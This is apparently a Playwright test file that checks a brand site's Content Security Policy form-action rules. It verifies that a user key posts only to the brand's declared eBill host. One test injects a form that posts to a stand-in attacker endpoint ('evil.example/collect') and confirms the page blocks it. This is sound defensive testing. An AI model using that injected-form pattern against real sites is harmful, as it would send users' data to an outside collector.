// Where a brand's manifest sends members (issue 10, defect 5): a brand's page lets forms go to this site and the
// https hosts the brand declares in externalHosts.forms (its eBill provider), and nowhere else.
import type { Page } from '@playwright/test';
import { brandUrl } from '../fixtures/brands';
import { expect, gotoBrand, loginHome, test } from '../fixtures/test';

/** The fifth test brand's eBill address (test/fixtures/fifth-brand/brands/fifth.json), answered by a stand-in. */
const EBILL = 'https://ebill.cedarvalleyhealth.example/sso';
const STAND_IN = '<!doctype html><html lang="en"><head><title>eBill</title></head><body><main><h1>Cedar Valley eBill</h1></main></body></html>';

/** The page's Content Security Policy complaints, as the browser reports them in the console. */
function cspViolations(page: Page): string[] {
  const found: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) found.push(message.text());
  });
  return found;
}

/** Answers every request to `origin` with the stand-in page; returns what was sent there ("METHOD body"). */
async function standIn(page: Page, origin: string): Promise<string[]> {
  const received: string[] = [];
  await page.route(`${origin}/**`, async (route) => {
    received.push(`${route.request().method()} ${route.request().postData() ?? ''}`);
    await route.fulfill({ contentType: 'text/html', body: STAND_IN });
  });
  return received;
}

test("fifth: the eBill tool posts the user key to the brand's declared https host, with no CSP violation", async ({ page }) => {
  test.slow(); // a sign-in, /home and its tiles, each checked with axe
  const violations = cspViolations(page);
  const received = await standIn(page, new URL(EBILL).origin);
  await loginHome(page, 'fifth', 'fifthmember');
  await page.getByRole('button', { name: /Online bill pay/ }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Cedar Valley eBill' })).toBeVisible();
  // The key travels in the body, never in the address.
  expect(page.url()).toBe(EBILL);
  expect(received).toEqual([expect.stringMatching(/^POST userKey=[^&]+$/)]);
  expect(violations).toEqual([]);
});

test('fifth: a form to a host the brand does not declare is refused by the page', async ({ page }) => {
  const violations = cspViolations(page);
  const received = await standIn(page, 'https://evil.example');
  await gotoBrand(page, 'fifth', '/login');
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/collect';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  expect(violations[0]).toContain("form-action 'self' https://ebill.cedarvalleyhealth.example");
  expect(received).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/login');
});

test("each brand's page allows forms to its own declared hosts only", async ({ page }) => {
  const formAction = async (brand: 'fifth' | 'main') =>
    ((await page.goto(brandUrl(brand, '/login')))?.headers()['content-security-policy'] ?? '')
      .split('; ')
      .find((directive) => directive.startsWith('form-action'));
  expect(await formAction('fifth')).toBe("form-action 'self' https://ebill.cedarvalleyhealth.example");
  expect(await formAction('main')).toBe("form-action 'self'");
});
